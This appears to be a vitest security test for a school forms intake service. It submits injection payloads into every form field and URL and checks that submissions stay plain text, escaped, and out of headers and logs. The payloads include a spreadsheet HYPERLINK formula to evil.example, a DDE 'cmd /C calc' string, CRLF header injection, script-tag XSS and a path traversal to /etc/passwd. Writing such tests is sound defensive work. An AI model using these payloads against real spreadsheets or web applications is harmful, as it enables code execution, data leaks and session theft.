import type { Hono } from 'hono';
import { beforeAll, describe, expect, it } from 'vitest';
import { type FormRegister, hasForm } from '#functions/intake/access.ts';
import { loadAssets } from '#functions/intake/assets.ts';
import { createIntake } from '#functions/intake/create-intake.ts';
import type { IntakeEnv } from '#functions/intake/desk.ts';
import { createLinks } from '#platform/links/index.ts';
import { createLog } from '#platform/log/index.ts';
import { systemRandom, uuidFrom } from '#platform/random.ts';
import type { Column } from '#schema/columns.ts';
import { registers } from '#schema/registers/index.ts';
import { plain } from '#schema/spelling.ts';
import { createFakeClock } from '../../school/fake-clock.ts';
import { openSchool, type School } from '../../school/open-school.ts';
import { jsonOf, sendForm, sendJson } from './intake-school.ts';

/** Stands in every attempt, so that it is found wherever it went. */
const mark = 'ZQX7';
const attempts = {
  formula: `=HYPERLINK("https://evil.example/?${mark}","${mark}")`,
  command: `+1+cmd|' /C calc'!A0 ${mark}`,
  function: `@SUM(1,1) ${mark}`,
  negative: `-2+3+${mark}`,
  tab: `\t=1+1 ${mark}`,
  header: `${mark}\r\nSet-Cookie: stolen=1\r\n\r\n<h1>`,
  markup: `${mark}"'><script>alert(1)</script><img src=x onerror=alert(1)>`,
  path: `../../../../etc/passwd%00${mark}`,
  log: `${mark}\n{"severity":"ERROR","message":"forged"}`,
} as const;

const forms = registers.filter(hasForm);
let school: School;
let intake: Hono<IntakeEnv>;
let link: (register: FormRegister, prefill?: Readonly<Record<string, string>>) => string;
/** What was accepted, by register: the texts that must stand in the sheet as they were sent. */
const accepted: {
  readonly register: FormRegister;
  readonly column: string;
  readonly text: string;
}[] = [];
const pages: string[] = [];
const headers: string[] = [];

beforeAll(async () => {
  const clock = createFakeClock();
  school = await openSchool({ clock, seed: 'injection' });
  const links = createLinks({ keys: [{ id: 'k1', secret: new Uint8Array(32).fill(7) }], clock });
  link = ({ key, form }, prefill = {}) =>
    links.sign({
      kind: form.audience === 'anyone' ? 'public' : 'post',
      registers: [key],
      prefill,
    });
  intake = createIntake({
    workbooks: school.workbooks(),
    links,
    clock,
    random: systemRandom,
    log: createLog({ write: (line) => school.logged.push(line) }),
    baseUrl: 'https://forms.school.example',
    drawSecret: 'a secret of this test',
    assets: await loadAssets(),
  });
  // All at once, so that they share the writes of their spreadsheets.
  await Promise.all(
    forms.flatMap((register) => Object.values(attempts).map((attempt) => tryOn(register, attempt))),
  );
}, 240_000);

/** Sends an attempt in every field of a form; those that refuse it get their example, and all is sent again. */
async function tryOn(register: FormRegister, attempt: string): Promise<void> {
  const { asks, example } = register.form;
  const id = uuidFrom(systemRandom);
  const send = async (tried: readonly string[]) => {
    const values = {
      ...Object.fromEntries(Object.entries(example).filter(([name]) => asks.includes(name))),
      ...Object.fromEntries(tried.map((name) => [name, attempt])),
    };
    const answer = await sendJson(intake, register.key, link(register), { id, values });
    keep(answer);
    return { status: answer.status, ...(await jsonOf(answer)), values };
  };
  const first = await send(asks);
  const refused = new Set(first.issues.map(({ column }) => column));
  const tried = asks.filter((name) => !refused.has(name));
  const sent = first.status === 422 ? await send(tried) : first;
  expect(`${register.key} ${sent.status}`).toBe(`${register.key} 201`);
  for (const column of tried) accepted.push({ register, column, text: attempt });
  await look(new URL(sent.receipt).pathname);
}

async function look(address: string): Promise<void> {
  const answer = await intake.request(address);
  keep(answer);
  pages.push(await answer.text());
}

function keep(answer: Response): void {
  headers.push(...[...answer.headers].map(([name, value]) => `${name}: ${value}`));
}

const isText = (column: Column | undefined): boolean =>
  column?.kind === 'text' || column?.kind === 'reference';

describe(`${forms.length} forms, ${Object.keys(attempts).length} attempts in every field`, () => {
  it('take free text as text, whatever it is', () => {
    for (const register of forms)
      for (const name of register.form.asks.filter((asked) => isText(register.columns[asked])))
        expect(
          accepted.filter((one) => one.register === register && one.column === name),
          `${register.key}.${name}`,
        ).toHaveLength(Object.keys(attempts).length);
  });

  it('take none of it for a photo', () => {
    const photographed = forms.flatMap((register) =>
      register.form.asks
        .filter((name) => register.columns[name]?.kind === 'photo')
        .map((column) => ({ register, column })),
    );
    expect(photographed.length).toBeGreaterThan(10);
    for (const { register, column } of photographed)
      expect(
        accepted.filter((one) => one.register === register && one.column === column),
        `${register.key}.${column}`,
      ).toEqual([]);
  });

  it('leave every text in its cell as it was sent, and no formula of theirs', async () => {
    const reads = await school.workbooks().read(forms.map(({ key }) => key));
    for (const { register, column, text } of accepted) {
      const found = (reads.get(register.key)?.rows ?? []).map(({ values }) => values[column]);
      const wanted = isText(register.columns[column]) ? text : plain(text);
      expect(found, `${register.key}.${column}`).toContain(wanted);
    }
    for (const id of Object.values(school.directory.spreadsheets)) {
      const { sheets = [] } = await school.google('owner').sheets.get(id, {
        fields: 'sheets(data(rowData(values(userEnteredValue(formulaValue)))))',
      });
      expect(JSON.stringify(sheets)).not.toContain(mark);
    }
  });

  it('show them escaped on receipts', () => {
    expect(pages).toHaveLength(forms.length * Object.keys(attempts).length);
    for (const page of pages) {
      expect(page).not.toMatch(/<script>alert|<img src=x|<h1>\s*<\/dd>/);
      expect(page).not.toContain(`"'>`);
    }
    expect(pages.some((page) => page.includes('&lt;script&gt;alert(1)'))).toBe(true);
  });

  it('show them escaped when a form is drawn again, and when a link fills it in', async () => {
    for (const register of forms) {
      const address = `/intake/form/${register.key}?t=${link(register)}`;
      const typed = Object.fromEntries(register.form.asks.map((name) => [name, attempts.markup]));
      const again = await (await sendForm(intake, address, typed)).text();
      const prefill = Object.fromEntries(
        register.form.asks.map((name) => [name, `"><script>${mark}</script>`]),
      );
      const fresh = await intake.request(
        `/intake/form/${register.key}?t=${link(register, Object.fromEntries(Object.entries(prefill).slice(0, 6)))}`,
      );
      for (const page of [again, await fresh.text()])
        expect(page, register.key).not.toMatch(/<script>(?:alert|ZQX7)|<img src=x/);
    }
  });

  it('let none of them into a header or a log', () => {
    expect(headers.join('\n')).not.toMatch(new RegExp(`${mark}|stolen`));
    expect(school.logged.join('')).not.toContain(mark);
    for (const line of school.logged) expect(line.trim().split('\n')).toHaveLength(1);
  });

  it('answer addresses made of them with a plain no', async () => {
    const [register] = forms;
    if (!register) throw new Error('there is no form');
    const token = link(register);
    for (const attempt of Object.values(attempts))
      for (const address of [
        `/intake/form/X?t=${token}`,
        `/intake/api/X`,
        `/intake/receipt/X`,
        `/intake/track/X`,
        `/intake/decide/X`,
        `/intake/go/X`,
        `/intake/row/X/X?t=${token}`,
        `/intake/row/repairs/X/photo/X/1?t=${token}`,
        `/intake/receipt/X/photo/X/X`,
        `/intake/open/repairs/X?t=${token}`,
        `/intake/assets/X`,
        `/intake/print/X?t=${token}`,
        `/intake/form/repairs?t=X`,
        `/intake/lists/repairs?t=X&lang=X`,
      ]) {
        const answer = await intake.request(address.replaceAll('X', encodeURIComponent(attempt)));
        expect(answer.status, address).toBeGreaterThanOrEqual(400);
        expect(answer.status, address).toBeLessThan(500);
        const body = await answer.text();
        expect(body, address).not.toContain(mark);
        expect(JSON.stringify([...answer.headers]), address).not.toContain(mark);
      }
    for (const attempt of Object.values(attempts))
      for (const place of [
        'X/X/X',
        'repairs/X/X',
        'repairs/0b8e1f0e-5d7c-4a53-9f55-0123456789ab/X',
      ]) {
        const address = `/intake/photos/${place}?t=${token}`;
        const answer = await intake.request(address.replaceAll('X', encodeURIComponent(attempt)), {
          method: 'PUT',
          body: attempt,
        });
        expect([400, 403, 404], address).toContain(answer.status);
        expect(await answer.text(), address).not.toContain(mark);
      }
    expect(school.logged.join('')).not.toContain(mark);
  });
});
